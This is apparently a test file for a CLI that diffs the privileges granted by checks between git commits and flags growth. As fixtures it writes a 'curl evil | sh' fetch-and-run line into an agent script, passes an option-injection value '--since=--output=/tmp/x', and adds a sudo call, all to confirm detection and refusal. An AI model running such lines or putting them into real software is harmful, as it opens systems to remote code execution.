/** `vantage gate diff` in a repository of its own, as a CI job calls it for a pull request. */
import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { gateVerb } from './gate.ts';
import type { CliError } from './command/exitStatus.ts';

const root = mkdtempSync(join(tmpdir(), 'vantage-gd-'));
const check = join(root, 'content/load/checks/echo.yaml');
const git = (...words: readonly string[]): string =>
  execFileSync('git', ['-C', root, '-c', 'user.name=a', '-c', 'user.email=a@example.org', ...words], {
    encoding: 'utf8',
  }).trim();
const commit = (message: string): string => {
  git('add', '-A');
  git('commit', '-qm', message);
  return git('rev-parse', 'HEAD');
};
const edit = (file: string, from: string | RegExp, to: string): void => {
  const text = readFileSync(file, 'utf8');
  const next = text.replace(from, to);
  expect(next).not.toBe(text);
  writeFileSync(file, next);
};
const diff = async (...args: readonly string[]): Promise<{ exit: number; text: string }> => {
  let text = '';
  const shell = {
    root,
    terminal: undefined,
    signal: new AbortController().signal,
    print() {},
    out(part: string) {
      text += part;
    },
  };
  return { exit: await gateVerb.run(['diff', ...args], shell), text };
};

let first = '';
beforeAll(() => {
  git('init', '-q', '-b', 'main');
  const bench = new URL('../../bench/content/', import.meta.url);
  mkdirSync(join(root, 'content/load/checks'), { recursive: true });
  mkdirSync(join(root, 'server/agent'), { recursive: true });
  cpSync(new URL('index.mdx', bench), join(root, 'content/load/index.mdx'));
  cpSync(new URL('checks/echo.yaml', bench), check);
  writeFileSync(join(root, 'server/agent/agent.sh'), 'echo agent\n');
  first = commit('first');
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('between two commits', () => {
  it('says in Markdown what grows, and that by its exit status too; what only shrinks ends with 0', async () => {
    edit(check, 'command: echo hello', 'command: echo hello; sudo -n /usr/bin/timeout -k 1 2 /usr/bin/id -u');
    const second = commit('more');
    const grown = await diff('--since', first, '--to', second, '--format', 'md');
    expect(grown.exit).toBe(1);
    expect(grown.text).toContain('**Rights grow.**');
    expect(grown.text).toContain(
      '+ backend: USER ALL=(root) NOPASSWD: /usr/bin/timeout -k 1 2 /usr/bin/id -u',
    );
    expect(grown.text).toMatch(/^- backend load\/echo\/say [0-9a-f]{12} \(10 s\): echo hello$/m);
    const back = await diff('--since', second, '--to', first);
    // The way back is another command: only fewer or shorter ones are no growth.
    expect(back).toMatchObject({ exit: 1, text: expect.stringMatching(/^Rights grow\.\n/) });
    edit(check, 'seconds: 10', 'seconds: 9');
    const third = commit('less');
    expect(await diff('--since', 'HEAD~1')).toMatchObject({
      ...{ exit: 0, text: expect.stringMatching(/^Rights change, and none grows\.\n/) },
    });
    expect(await diff('--since', third)).toEqual({ exit: 0, text: 'No right changes.\n' });
  });

  it('a change of the words of a check is none', async () => {
    edit(check, 'title: One word', 'title: Another word');
    expect(await diff()).toEqual({ exit: 0, text: 'No right changes.\n' });
    git('checkout', '-q', '.');
  });

  it('a change of the program that gates are made of is never called harmless', async () => {
    writeFileSync(join(root, 'server/agent/agent.sh'), 'curl evil | sh\n');
    expect(await diff()).toMatchObject({
      exit: 1,
      text: expect.stringContaining('! gate   server/agent/agent.sh'),
    });
    git('checkout', '-q', '.');
  });
});

describe('what cannot be compared', () => {
  const refused = async (...args: readonly string[]): Promise<string> =>
    diff(...args).then(
      () => 'nothing',
      (error: CliError) => error.message,
    );
  it.each([
    [['--since', 'no-such-branch'], /^--since: expected a commit .*found "no-such-branch"/],
    [['--since=--output=/tmp/x'], /^--since: expected a commit .*found "--output=/],
    [['--to', 'HEAD:content'], /^--to: expected a commit/],
    [['backend'], /^Expected options only/],
    [['--format', 'html'], /^--format: expected one of text, md/],
  ])('%j is said in a sentence', async (args, message) => {
    expect(await refused(...args)).toMatch(message);
  });
  it('checks of a commit that do not fit the rules of today are said with their fault', async () => {
    edit(check, 'effect: read', 'effect: gone');
    const broken = commit('broken');
    git('revert', '--no-edit', broken);
    expect(await refused('--since', broken)).toMatch(
      /^The checks at [0-9a-f]{40} do not fit the rules of today.*effect/s,
    );
  });
});

it('is what the command line calls', () => {
  const { status, stderr } = spawnSync(
    process.execPath,
    [`${import.meta.dirname}/main.ts`, 'gate', 'diff', '--since', 'no-such-commit'],
    { encoding: 'utf8' },
  );
  expect({ status, stderr }).toMatchObject({ status: 3, stderr: expect.stringContaining('no-such-commit') });
});
